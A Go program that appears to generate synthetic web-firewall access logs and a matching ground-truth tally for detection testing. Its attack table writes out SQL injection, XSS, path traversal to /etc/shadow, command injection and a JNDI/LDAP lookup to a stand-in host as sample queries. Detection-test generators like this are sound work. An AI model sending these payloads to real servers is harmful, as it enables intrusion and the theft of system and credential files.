package main

import (
	"bufio"
	"fmt"
	"io"
	"math/rand/v2"
	"strconv"
	"strings"
	"time"
)

// Sizes of the world that events come from.
const (
	clientCount = 200_000
	pathCount   = 50_000
	agentCount  = 2_000
	siteCount   = 200
	nodeCount   = 12
	days        = 7
)

// An attack is a query with the ids of the rules that it matches. Those that
// inject hold the substring that is asked for.
type attack struct {
	query  string
	rules  []string
	inject bool
}

var (
	attacks = []attack{
		{"id=7%20union%20select%20name,pass,3--", []string{"942100", "942190", "942270", "949110"}, true},
		{"id=-7%20UNION%20SELECT%20null,schema_name", []string{"942100", "942270", "949110", "980130"}, true},
		{"q=%3Cscript%3Efetch(1)%3C/script%3E", []string{"941100", "941110", "941160", "949110"}, false},
		{"page=../../../../etc/shadow", []string{"930100", "930110", "930120", "949110"}, false},
		{"host=;id%20-u", []string{"932160", "932100", "949110"}, false},
		{"x=${jndi:ldap://oast.example/a}", []string{"944150", "949110"}, false},
		{"id=7'%20or%20'7'='7", []string{"942130", "942100", "949110"}, false},
		{"tpl=php://filter/read=string.rot13", []string{"933130", "949110"}, false},
	}
	noise     = [][]string{{"920350"}, {"920280"}, {"913100"}, {"920420"}, {"942430"}, {"920273", "942432"}}
	methods   = []string{"GET", "GET", "GET", "GET", "GET", "GET", "POST", "POST", "PUT", "HEAD", "OPTIONS", "DELETE"}
	countries = strings.Fields("CN US DE RU NL FR GB JP SG HK IN BR VN KR UA PL SE CA AU IT")
	ciphers   = strings.Fields("TLS_AES_256_GCM_SHA384 TLS_AES_128_GCM_SHA256 TLS_CHACHA20_POLY1305_SHA256 ECDHE-RSA-AES128-GCM-SHA256")
	words     = strings.Fields("api account admin basket brand catalog checkout coupon delivery detail download export faq file gallery help home image import info invoice item label list login logout mail map media member news offer order page partner pay photo print product profile rating report return review sale search ship shop sign stock store tag team terms ticket track upload user video view voucher wish")
	// statuses of 1,000 answers, in thousandths
	statuses = []struct{ upTo, code int }{{780, 200}, {860, 304}, {900, 302}, {950, 404}, {965, 401}, {980, 499}, {990, 502}, {995, 500}, {1000, 201}}
)

// world is what the fields of events are drawn from.
type world struct {
	r                            *rand.Rand
	clients, regions, paths      []string
	agents, sites                []string
	systems                      []int
	anyClient, anyPath, anyAgent *rand.Zipf
	anySite                      *rand.Zipf
	prose                        *prose // writes the messages, nil where they are lines of an access log
}

func newWorld(seed uint64) *world {
	r := rand.New(rand.NewPCG(seed, 11))
	w := &world{r: r}
	seen := map[string]bool{}
	for len(w.clients) < clientCount {
		s := fmt.Sprintf("%d.%d.%d.%d", 1+r.IntN(222), r.IntN(256), r.IntN(256), 1+r.IntN(254))
		if seen[s] {
			continue
		}
		seen[s] = true
		w.clients = append(w.clients, s)
		w.regions = append(w.regions, countries[int(float64(len(countries))*r.Float64()*r.Float64())])
		w.systems = append(w.systems, 1000+r.IntN(4000))
	}
	for i := range pathCount {
		w.paths = append(w.paths, w.path(i))
	}
	for i := range agentCount {
		w.agents = append(w.agents, w.agent(i))
	}
	for i := range siteCount {
		w.sites = append(w.sites, fmt.Sprintf("%s-%s-%03d.example.com", w.word(), w.word(), i))
	}
	w.anyClient = rand.NewZipf(r, 1.1, 20, clientCount-1)
	w.anyPath = rand.NewZipf(r, 1.2, 10, pathCount-1)
	w.anyAgent = rand.NewZipf(r, 1.3, 5, agentCount-1)
	w.anySite = rand.NewZipf(r, 1.1, 4, siteCount-1)
	return w
}

func (w *world) word() string { return words[w.r.IntN(len(words))] }

func (w *world) path(i int) string {
	var b strings.Builder
	for k := 1 + w.r.IntN(4); k >= 0; k-- {
		b.WriteString("/" + w.word())
	}
	fmt.Fprintf(&b, "/%d", i)
	if w.r.IntN(3) == 0 {
		b.WriteString([]string{".html", ".php", ".js", ".png"}[w.r.IntN(4)])
	}
	return b.String()
}

func (w *world) agent(i int) string {
	r := w.r
	switch i % 5 {
	case 2:
		return fmt.Sprintf("Mozilla/5.0 (iPhone; CPU iPhone OS %d_%d like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/%d.%d Mobile/15E148 Safari/604.1", 12+r.IntN(8), r.IntN(9), 12+r.IntN(8), r.IntN(9))
	case 3:
		return fmt.Sprintf("Mozilla/5.0 (X11; Linux x86_64; rv:%d.0) Gecko/20100101 Firefox/%d.0.%d", 80+r.IntN(70), 80+r.IntN(70), r.IntN(9))
	case 4:
		return fmt.Sprintf("python-requests/2.%d.%d build/%d", r.IntN(40), r.IntN(10), i)
	}
	return fmt.Sprintf("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.%d.%d Safari/537.36", 90+r.IntN(60), r.IntN(7000), r.IntN(200))
}

// record is one event before it is written, with what the tally asks of it.
type record struct {
	number, size              int
	time                      time.Time
	client, site              int
	status, score             int
	trace, path, query, agent string
	method, version, referrer string
	action, mode, dataset     string
	kind                      string
	rules                     []string
	injected, asked           bool // the query holds the substring; the rules hold the one asked for
	sent                      int
}

// generate writes n events of the 7 days before to, in order of time but for a
// second, as JSON lines of 31 fields and a time. Their messages are lines of an
// access log, which other fields tell, or told text that none does. The same
// arguments give the same bytes.
func generate(out io.Writer, n int, to time.Time, seed uint64, told bool) (*truth, error) {
	w := newWorld(seed)
	if told {
		w.prose = newProse(seed)
	}
	from := to.Add(-days * 24 * time.Hour)
	t := newTally(n, w.sites, w.clients, from, to)
	buf := bufio.NewWriterSize(out, 1<<20)
	step := float64(days*24*time.Hour) / float64(n)
	var line []byte
	for i := range n {
		at := from.Add(time.Duration(float64(i)*step + w.r.Float64()*2e9 - 1e9))
		if at.Before(from) {
			at = from
		}
		if !at.Before(to) {
			at = to.Add(-time.Millisecond)
		}
		e := w.draw(i, at.Truncate(time.Millisecond))
		line = w.append(line[:0], e)
		e.size = len(line)
		t.add(e)
		if _, err := buf.Write(line); err != nil {
			return nil, fmt.Errorf("write events: %w", err)
		}
	}
	if err := buf.Flush(); err != nil {
		return nil, fmt.Errorf("write events: %w", err)
	}
	return t.finish(), nil
}

// draw makes the parts of an event.
func (w *world) draw(i int, at time.Time) *record {
	r := w.r
	e := &record{
		number: i, time: at, client: int(w.anyClient.Uint64()), site: int(w.anySite.Uint64()),
		path: w.paths[w.anyPath.Uint64()], agent: w.agents[w.anyAgent.Uint64()], method: methods[r.IntN(len(methods))],
		trace: fmt.Sprintf("%016x%016x", r.Uint64(), r.Uint64()), referrer: "-", version: "1.1",
		action: "allowed", mode: "on", dataset: "edge.access", kind: "event", sent: 200 + r.IntN(60000),
	}
	if r.IntN(3) > 0 {
		e.referrer = "https://" + w.sites[e.site] + w.paths[w.anyPath.Uint64()]
	}
	if r.IntN(2) == 0 {
		e.version = "2.0"
	}
	if r.IntN(100) < 45 {
		e.query = w.query(at)
	}
	x := r.IntN(1000)
	for _, s := range statuses {
		if e.status = s.code; x < s.upTo {
			break
		}
	}
	w.judge(e)
	return e
}

func (w *world) query(at time.Time) string {
	r := w.r
	switch r.IntN(3) {
	case 0:
		return "id=" + strconv.Itoa(r.IntN(10_000_000)) + "&page=" + strconv.Itoa(r.IntN(50))
	case 1:
		return "q=" + w.word() + "+" + w.word() + "&sort=asc&_t=" + strconv.FormatInt(at.UnixMilli(), 10)
	}
	return "sid=" + strconv.FormatUint(r.Uint64(), 16) + "&lang=" + strings.ToLower(countries[r.IntN(20)])
}

// judge makes 1.5 % of events attacks, and 3 % noise of rules.
func (w *world) judge(e *record) {
	switch x := w.r.IntN(1000); {
	case x < 15:
		a := attacks[w.r.IntN(len(attacks))]
		if e.query != "" {
			e.query += "&"
		}
		e.query += a.query + strconv.Itoa(w.r.IntN(1000))
		e.rules, e.injected, e.score = a.rules, a.inject, 5*(len(a.rules)-1)
		e.dataset, e.kind = "edge.waf", "alert"
		e.action, e.mode = "detected", "detection_only"
		if w.r.IntN(10) < 8 {
			e.action, e.mode, e.status = "blocked", "on", 403
		}
	case x < 45:
		e.rules = noise[w.r.IntN(len(noise))]
		e.score, e.dataset, e.action = 2+w.r.IntN(2), "edge.waf", "detected"
	}
	for _, id := range e.rules {
		e.asked = e.asked || id == "942100"
	}
}

// append writes an event as a line of JSON. None of its values but the message
// needs an escape.
func (w *world) append(b []byte, e *record) []byte {
	text := func(name, value string) {
		b = append(append(append(b, `,"`...), name...), `":"`...)
		b = append(append(b, value...), '"')
	}
	number := func(name string, n int) {
		b = append(append(append(b, `,"`...), name...), `":`...)
		b = strconv.AppendInt(b, int64(n), 10)
	}
	r := w.r
	b = append(b, `{"@timestamp":"`...)
	b = append(e.time.UTC().AppendFormat(b, "2006-01-02T15:04:05.000Z"), '"')
	text("event.dataset", e.dataset)
	text("event.kind", e.kind)
	text("event.category", "web")
	text("event.action", e.action)
	text("source.ip", w.clients[e.client])
	text("source.geo.country_iso_code", w.regions[e.client])
	text("destination.ip", fmt.Sprintf("10.20.%d.%d", e.site%8, 10+e.site%100))
	text("http.request.method", e.method)
	text("http.request.referrer", e.referrer)
	text("http.version", e.version)
	text("url.domain", w.sites[e.site])
	text("url.path", e.path)
	text("url.query", e.query)
	text("user_agent.original", e.agent)
	text("trace.id", e.trace)
	text("node", "waf-node-"+strconv.Itoa(r.IntN(nodeCount)))
	text("site", w.sites[e.site])
	text("tls.version", map[string]string{"1.1": "1.2", "2.0": "1.3"}[e.version])
	text("tls.cipher", ciphers[r.IntN(len(ciphers))])
	text("waf.engine_mode", e.mode)
	text("observer.version", "3.4.1")
	b = append(b, `,"message":"`...)
	if w.prose != nil {
		b = append(w.prose.append(b), '"')
	} else {
		b = append(w.message(b, e), '"')
	}
	number("event.duration", 100_000+int(r.ExpFloat64()*4e7))
	number("source.port", 1024+r.IntN(64000))
	number("source.as.number", w.systems[e.client])
	number("destination.port", 443)
	number("http.request.bytes", 300+r.IntN(2000))
	number("http.response.status_code", e.status)
	number("http.response.bytes", e.sent)
	number("waf.anomaly_score", e.score)
	b = append(b, `,"waf.rule_ids":[`...)
	for i, id := range e.rules {
		if i > 0 {
			b = append(b, ',')
		}
		b = append(append(append(b, '"'), id...), '"')
	}
	return append(b, "]}\n"...)
}

// message is the line of an access log that the fields of an event are of.
func (w *world) message(b []byte, e *record) []byte {
	const quote = `\"`
	b = append(append(b, w.clients[e.client]...), " - - ["...)
	b = e.time.UTC().AppendFormat(b, "02/Jan/2006:15:04:05 -0700")
	b = append(append(append(b, "] "+quote...), e.method...), ' ')
	b = append(b, e.path...)
	if e.query != "" {
		b = append(append(b, '?'), e.query...)
	}
	b = append(append(append(b, " HTTP/"...), e.version...), quote+" "...)
	b = append(strconv.AppendInt(b, int64(e.status), 10), ' ')
	b = append(strconv.AppendInt(b, int64(e.sent), 10), " "+quote...)
	b = append(append(b, e.referrer...), quote+" "+quote...)
	return append(append(b, e.agent...), quote...)
}
